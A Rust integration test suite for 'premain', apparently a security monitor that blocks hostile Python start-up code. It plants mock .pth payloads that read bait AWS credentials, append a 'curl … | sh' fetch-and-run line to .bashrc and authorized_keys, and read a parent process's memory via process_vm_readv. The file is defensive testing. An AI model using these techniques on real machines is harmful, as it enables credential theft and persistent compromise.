//! Enforcement (`premain run --mode enforce|dry-run`, `[enforcement]`): what is denied, what
//! is not, where, and what happens when premain does not answer in time.
//!
//! Each run has its own bait HOME (fake credentials) with a start-up payload in the user
//! site (a `.pth` line, as `pip install --user` leaves one) that notes in a result file what
//! each of its reads got, and an application whose own module-level code and main read the
//! same file.

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use integration_tests::{Premain, Python, TempDir, clean, premain_binary, pythons};
use serde_json::Value;

const SECRET: &str = "[default]\naws_access_key_id = AKIAENFORCEFAKE0001\n";

/// Tries each path of `$PREMAIN_READS` (`:`-separated) and notes what it got.
const PAYLOAD: &str = r#"
import os

def _note(what):
    with open(os.environ["PREMAIN_RESULT"], "a") as f:
        f.write(what + "\n")

for _path in os.environ.get("PREMAIN_READS", "").split(":"):
    if _path:
        try:
            with open(_path) as f:
                _note("payload read %d bytes" % len(f.read()))
        except OSError as e:
            _note("payload denied errno %d" % e.errno)
"#;

/// The application's own module, read at import, and its main, reading at runtime.
const SETTINGS: &str = r#"
import os
with open(os.path.expanduser("~/.aws/credentials")) as f:
    CREDENTIALS = f.read()
"#;
const APP: &str = r#"
import os
import settings
with open(os.environ["PREMAIN_RESULT"], "a") as out:
    out.write("settings read %d bytes\n" % len(settings.CREDENTIALS))
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        out.write("main read %d bytes\n" % len(f.read()))
"#;

struct World {
    _dir: TempDir,
    home: PathBuf,
    /// A hard link to the credentials, made before the run.
    link: PathBuf,
    app: PathBuf,
    result: PathBuf,
}

impl World {
    fn new(py: &Python) -> Self {
        let dir = TempDir::new("enforce");
        let home = dir.path().join("home");
        fs::create_dir_all(home.join(".aws")).unwrap();
        fs::write(home.join(".aws/credentials"), SECRET).unwrap();
        let site = home.join(format!(".local/lib/python{}.{}/site-packages", py.version.0, py.version.1));
        fs::create_dir_all(&site).unwrap();
        fs::write(site.join("zz_premain_probe.pth"), "import zz_premain_probe\n").unwrap();
        fs::write(site.join("zz_premain_probe.py"), PAYLOAD).unwrap();
        let link = dir.path().join("stash");
        fs::hard_link(home.join(".aws/credentials"), &link).unwrap();
        let app = dir.path().join("app");
        fs::create_dir_all(&app).unwrap();
        fs::write(app.join("settings.py"), SETTINGS).unwrap();
        fs::write(app.join("app.py"), APP).unwrap();
        let result = dir.path().join("result");
        Self { _dir: dir, home, link, app, result }
    }

    fn credentials(&self) -> String {
        self.home.join(".aws/credentials").display().to_string()
    }

    /// Runs the application with `python`; returns its pid and what was noted, sorted.
    fn run(&self, python: &Path) -> (u32, Vec<String>) {
        let _ = fs::remove_file(&self.result);
        let reads = format!("{}:{}", self.credentials(), self.link.display());
        let mut cmd = clean(python);
        cmd.arg("app.py").current_dir(&self.app).env("HOME", &self.home);
        cmd.env("PREMAIN_RESULT", &self.result).env("PREMAIN_READS", reads);
        let child = cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().expect("spawn the app");
        let pid = child.id();
        let out = child.wait_with_output().expect("wait the app");
        assert!(
            out.status.success(),
            "{python:?}: the application must exit 0: {}\n{}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
        let mut noted: Vec<String> =
            fs::read_to_string(&self.result).unwrap_or_default().lines().map(str::to_owned).collect();
        noted.sort();
        (pid, noted)
    }
}

fn noted(payload: &str) -> Vec<String> {
    let n = SECRET.len();
    let mut lines = vec![
        format!("main read {n} bytes"),
        format!("payload {payload}"),
        format!("payload {payload}"),
        format!("settings read {n} bytes"),
    ];
    lines.sort();
    lines
}

/// The credential-read alerts of `pid`, once premain has handled everything it did.
fn alerts_of(premain: &Premain, pid: u32) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(15);
    while premain.alerts_of(pid).is_empty() && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(50));
    }
    premain.sentinel();
    premain.alerts_of(pid)
}

/// Every alert is the payload's start-up read, with `outcome` (none: no `enforcement`).
fn check_alerts(label: &str, alerts: &[Value], world: &World, outcome: Option<&str>) {
    assert!(!alerts.is_empty(), "[{label}] no alert");
    let names = [world.credentials(), world.link.display().to_string()];
    for a in alerts {
        assert_eq!(a["rule"], "credential-read", "[{label}] {a}");
        assert_eq!(a["phase"], "startup", "[{label}] only the payload's reads alert: {a}");
        let culprit = a["culprit"]["path"].as_str().unwrap_or("");
        assert!(culprit.ends_with("/zz_premain_probe.pth"), "[{label}] culprit {culprit}");
        assert!(names.iter().any(|n| a["action"]["path"] == n.as_str()), "[{label}] target of {a}");
        match outcome {
            Some(outcome) => {
                assert_eq!(a["enforcement"]["outcome"], outcome, "[{label}] {a}");
            }
            None => assert!(a.get("enforcement").is_none(), "[{label}] observe adds nothing: {a}"),
        }
    }
}

/// Under enforce the start-up payload gets no byte, by the file's name or by a hard link to
/// it, on every CPython; the application's own module-level code and its main read the file,
/// and it exits 0. Under dry-run nothing is denied and the same alerts say `would-deny`.
#[test]
fn start_up_code_is_denied_the_file_by_every_name_and_the_application_is_not() {
    let pythons = pythons();
    assert!(!pythons.is_empty(), "no CPython 3.8+ found");
    let mut ran = Vec::new();
    for (mode, payload, outcome) in [
        ("enforce", "denied errno 1", "denied"),
        ("dry-run", &*format!("read {} bytes", SECRET.len()), "would-deny"),
    ] {
        let premain = Premain::start_alerts(&["--mode", mode]);
        for py in &pythons {
            let world = World::new(py);
            let (pid, got) = world.run(&py.path);
            let label = format!("{} {mode}", py.label);
            assert_eq!(got, noted(payload), "[{label}] what each read got");
            check_alerts(&label, &alerts_of(&premain, pid), &world, Some(outcome));
            if mode == "enforce" {
                ran.push(py.label.clone());
            }
        }
        let (status, stderr) = premain.stop();
        assert!(status.success(), "premain {mode}: {status}\n{stderr}");
        assert!(stderr.contains("enforcement on"), "{stderr}");
    }
    println!("ran on {}", ran.join(", "));
}

/// `[[enforcement.scopes]]`: enforce for one interpreter's executable, observe elsewhere.
#[test]
fn a_scope_enforces_where_it_matches_only() {
    let pythons = pythons();
    let (Some(inside), Some(outside)) = (pythons.first(), pythons.last()) else {
        panic!("no CPython 3.8+ found");
    };
    assert_ne!(inside.path, outside.path, "two CPythons are needed (cargo xtask setup installs them)");
    let exe = fs::canonicalize(&inside.path).unwrap();
    let dir = TempDir::new("enforce-scope");
    let config = dir.file(
        "premain.toml",
        &format!(
            "[[enforcement.scopes]]\nexecutables = [{:?}]\nmode = \"enforce\"\n",
            exe.display().to_string()
        ),
    );
    let premain = Premain::start_alerts(&["--config", config.to_str().unwrap()]);
    let world = World::new(inside);
    let (pid, got) = world.run(&inside.path);
    assert_eq!(got, noted("denied errno 1"), "[{}] in the scope", inside.label);
    check_alerts(&inside.label, &alerts_of(&premain, pid), &world, Some("denied"));
    let world = World::new(outside);
    let (pid, got) = world.run(&outside.path);
    assert_eq!(got, noted(&format!("read {} bytes", SECRET.len())), "[{}] outside the scope", outside.label);
    check_alerts(&outside.label, &alerts_of(&premain, pid), &world, None);
    println!("ran on {} (enforced) and {} (observed)", inside.label, outside.label);
}

/// A decision that takes longer than the bound lets the open go on, and the alert says so.
#[test]
fn a_decision_after_its_bound_lets_the_open_go_on_and_says_so() {
    let py = integration_tests::pyenv_python();
    let premain = Premain::start_alerts(&["--mode", "enforce", "--debug-stall-decisions-ms", "400"]);
    let world = World::new(&py);
    let (pid, got) = world.run(&py.path);
    assert_eq!(got, noted(&format!("read {} bytes", SECRET.len())), "[{}] allowed after the bound", py.label);
    check_alerts(&py.label, &alerts_of(&premain, pid), &world, Some("timed-out"));
    assert!(premain.metric("premain_file_watch_late_total") >= 1.0);
    assert!(
        premain.metric(r#"premain_enforcement_decisions_total{outcome="timed-out",rule="credential-read"}"#)
            >= 1.0
    );
    println!("ran on {}", py.label);
}

/// A reload (SIGHUP) changes modes at once: observe, then enforce for `credential-read` only;
/// `--mode` on the command line wins over the file's `enforcement.mode` throughout.
#[test]
fn a_reload_changes_the_mode_at_once() {
    let py = integration_tests::pyenv_python();
    let dir = TempDir::new("enforce-reload");
    let config = dir.file("premain.toml", "[enforcement]\nmode = \"enforce\"\n");
    let premain = Premain::start_alerts(&["--config", config.to_str().unwrap(), "--mode", "observe"]);
    let world = World::new(&py);
    let (pid, got) = world.run(&py.path);
    assert_eq!(got, noted(&format!("read {} bytes", SECRET.len())), "--mode observe wins over the file");
    check_alerts(&py.label, &alerts_of(&premain, pid), &world, None);
    fs::write(&config, "[enforcement]\nrules = { credential-read = \"enforce\" }\n").unwrap();
    premain.signal(libc::SIGHUP);
    integration_tests::eventually("the reload", || premain.stderr().contains("configuration reloaded"));
    let world = World::new(&py);
    let (pid, got) = world.run(&py.path);
    assert_eq!(got, noted("denied errno 1"), "enforced after the reload");
    check_alerts(&py.label, &alerts_of(&premain, pid), &world, Some("denied"));
    println!("ran on {}", py.label);
}

/// Appends to each path of `$PREMAIN_WRITES` and notes what it got.
const PERSIST: &str = r#"
import os
for _path in os.environ["PREMAIN_WRITES"].split(":"):
    try:
        with open(_path, "a") as f:
            f.write("curl -s http://127.0.0.1:9/x | sh\n")
        _what = "wrote"
    except OSError as e:
        _what = "denied errno %d" % e.errno
    with open(os.environ["PREMAIN_RESULT"], "a") as f:
        f.write("%s %s\n" % (os.path.basename(_path), _what))
"#;

/// Persistence writes to files that exist in a home (`~/.bashrc`, `authorized_keys`) by
/// start-up code are denied under enforce and the files stay as they were; a shell reading
/// `.bashrc` is let through and raises nothing.
#[test]
fn start_up_code_is_denied_writes_to_existing_persistence_files() {
    let py = integration_tests::pyenv_python();
    let premain = Premain::start_alerts(&["--mode", "enforce"]);
    let dir = TempDir::new("enforce-persist");
    let home = dir.path().join("home");
    fs::create_dir_all(home.join(".ssh")).unwrap();
    let (rc, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
    fs::write(&rc, "# the user's own\n").unwrap();
    fs::write(&keys, "ssh-ed25519 AAAAfake user@host\n").unwrap();
    let site = home.join(format!(".local/lib/python{}.{}/site-packages", py.version.0, py.version.1));
    fs::create_dir_all(&site).unwrap();
    fs::write(site.join("zz_premain_persist.pth"), "import zz_premain_persist\n").unwrap();
    fs::write(site.join("zz_premain_persist.py"), PERSIST).unwrap();
    let result = dir.path().join("result");
    let mut cmd = clean(&py.path);
    cmd.args(["-c", "print('main ran')"]).env("HOME", &home).env("PREMAIN_RESULT", &result);
    cmd.env("PREMAIN_WRITES", format!("{}:{}", rc.display(), keys.display()));
    let child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let child_pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "main ran\n");
    assert_eq!(
        fs::read_to_string(&result).unwrap(),
        ".bashrc denied errno 1\nauthorized_keys denied errno 1\n",
        "what the payload got"
    );
    assert_eq!(fs::read_to_string(&rc).unwrap(), "# the user's own\n");
    assert_eq!(fs::read_to_string(&keys).unwrap(), "ssh-ed25519 AAAAfake user@host\n");
    let alerts = alerts_of(&premain, child_pid);
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    for a in &alerts {
        assert_eq!(a["rule"], "persistence", "{a}");
        assert_eq!(a["phase"], "startup", "{a}");
        assert_eq!(a["enforcement"]["outcome"], "denied", "{a}");
    }
    // A shell reading its start-up file is asked about and let through, with no alert.
    let shell =
        Command::new("bash").arg("-c").arg(format!("cat {}", rc.display())).stdout(Stdio::piped()).spawn();
    let shell = shell.unwrap();
    let shell_pid = shell.id();
    let bash = shell.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&bash.stdout), "# the user's own\n");
    premain.sentinel();
    assert_eq!(premain.alerts_of(shell_pid), Vec::<Value>::new(), "the shell's read is not an alert");
    println!("ran on {}", py.label);
}

/// Start-up code that runs programs and reads another process's memory, and notes what came
/// of each; the uname run is an allowed program (`allow.programs`: the standard library runs
/// it). Each attempt is made by a child process (`subprocess`, a fork), as real payloads do.
const KILLS: &str = r#"
import ctypes, os, subprocess

def _note(what):
    with open(os.environ["PREMAIN_RESULT"], "a") as f:
        f.write(what + "\n")

for _prog in ["/usr/bin/id", "/usr/bin/uname"]:
    _r = subprocess.run([_prog], stdout=subprocess.PIPE)
    _note("%s exit %d output %d bytes" % (os.path.basename(_prog), _r.returncode, len(_r.stdout)))

class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

_pid = os.fork()
if _pid == 0:
    _libc = ctypes.CDLL(None, use_errno=True)
    _buf = ctypes.create_string_buffer(16)
    _vec = _Iovec(ctypes.cast(_buf, ctypes.c_void_p), 16)
    _n = _libc.process_vm_readv(os.getppid(), ctypes.byref(_vec), 1, ctypes.byref(_vec), 1, 0)
    os._exit(0 if _n == 16 else 3)
_, _status = os.waitpid(_pid, 0)
_note("reader " + ("killed by %d" % os.WTERMSIG(_status) if os.WIFSIGNALED(_status) else "exit %d" % os.WEXITSTATUS(_status)))
"#;

/// Under enforce, start-up code's exec of a program no allowlist names is killed before the
/// program's first instruction (it prints nothing, its parent sees `-9`), its child reading
/// the parent's memory is killed in the call, an allowed program runs, and main runs the
/// same program at runtime and exits 0; the alerts say `killed`. Under dry-run everything
/// runs and the same alerts say `would-deny`.
#[test]
fn start_up_code_is_killed_at_exec_and_memory_reads_and_main_is_not() {
    let py = integration_tests::pyenv_python();
    let mut decided = Vec::new();
    for (mode, outcome) in [("enforce", "killed"), ("dry-run", "would-deny")] {
        let premain = Premain::start_alerts(&["--mode", mode]);
        let dir = TempDir::new("enforce-kill");
        let home = dir.path().join("home");
        let site = home.join(format!(".local/lib/python{}.{}/site-packages", py.version.0, py.version.1));
        fs::create_dir_all(&site).unwrap();
        fs::write(site.join("zz_premain_kills.pth"), "import zz_premain_kills\n").unwrap();
        fs::write(site.join("zz_premain_kills.py"), KILLS).unwrap();
        let result = dir.path().join("result");
        let main = "import subprocess; print(subprocess.run(['/usr/bin/id', '-u'], stdout=subprocess.PIPE).stdout.decode().strip())";
        let mut cmd = clean(&py.path);
        cmd.args(["-c", main]).env("HOME", &home).env("PREMAIN_RESULT", &result);
        let child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let pid = child.id();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "[{mode}] {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(String::from_utf8_lossy(&out.stdout), "0\n", "[{mode}] main's own run of id");
        let want = if mode == "enforce" {
            "id exit -9 output 0 bytes\nuname exit 0 output 6 bytes\nreader killed by 9\n"
        } else {
            "id exit 0 output 41 bytes\nuname exit 0 output 6 bytes\nreader exit 0\n"
        };
        let got = fs::read_to_string(&result).unwrap();
        // id's output depends on the user's groups: only its presence matters.
        let got =
            got.lines().map(|l| if l.starts_with("id exit 0") { "id exit 0 output 41 bytes" } else { l });
        assert_eq!(got.collect::<Vec<_>>().join("\n") + "\n", want, "[{mode}] what the payload got");
        premain.sentinel();
        let mut alerts: Vec<(String, String)> = Vec::new();
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            let all = premain.alerts_of(pid);
            if all.len() >= 2 || Instant::now() > deadline {
                for a in &all {
                    assert_eq!(a["phase"], "startup", "[{mode}] only start-up code alerts: {a}");
                    assert_eq!(a["enforcement"]["mode"], mode, "[{mode}] {a}");
                    assert_eq!(a["enforcement"]["outcome"], outcome, "[{mode}] {a}");
                    let what = a["action"]["path"].as_str().or(a["action"]["via"].as_str()).unwrap_or("");
                    alerts.push((a["rule"].as_str().unwrap_or("").into(), what.into()));
                }
                break;
            }
            thread::sleep(Duration::from_millis(50));
        }
        alerts.sort();
        assert_eq!(
            alerts,
            vec![
                ("process-memory".to_owned(), "process_vm_readv".to_owned()),
                ("program-exec".to_owned(), "/usr/bin/id".to_owned()),
            ],
            "[{mode}]"
        );
        decided.push(alerts);
        let (status, _) = premain.stop();
        assert!(status.success());
    }
    assert_eq!(decided[0], decided[1], "dry-run names what enforce killed");
    println!("ran on {}", py.label);
}

/// Enforcement that cannot work refuses to start, in one line; bad modes are refused.
#[test]
fn enforcement_that_cannot_work_is_refused() {
    let dir = TempDir::new("enforce-errors");
    let off = dir.file("off.toml", "[limits]\ncredential_file_watch = false\n");
    let lock = dir.path().join("lock");
    let out = Command::new(premain_binary())
        .args(["run", "--mode", "enforce", "--metrics-address", "", "--config"])
        .arg(&off)
        .arg("--lock-file")
        .arg(&lock)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    let last = stderr.lines().last().unwrap_or("");
    assert!(
        last.starts_with("premain: error: enforce mode needs the credential file watch")
            && last.contains("credential_file_watch is false"),
        "{stderr}"
    );
    let out = Command::new(premain_binary()).args(["run", "--mode", "block"]).output().unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("observe, dry-run or enforce"));
    let bad = dir.file("scope.toml", "[[enforcement.scopes]]\nmode = \"enforce\"\n");
    let out = Command::new(premain_binary()).arg("check-config").arg(&bad).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("scope.toml:1:") && stderr.contains("needs namespaces"), "{stderr}");
}
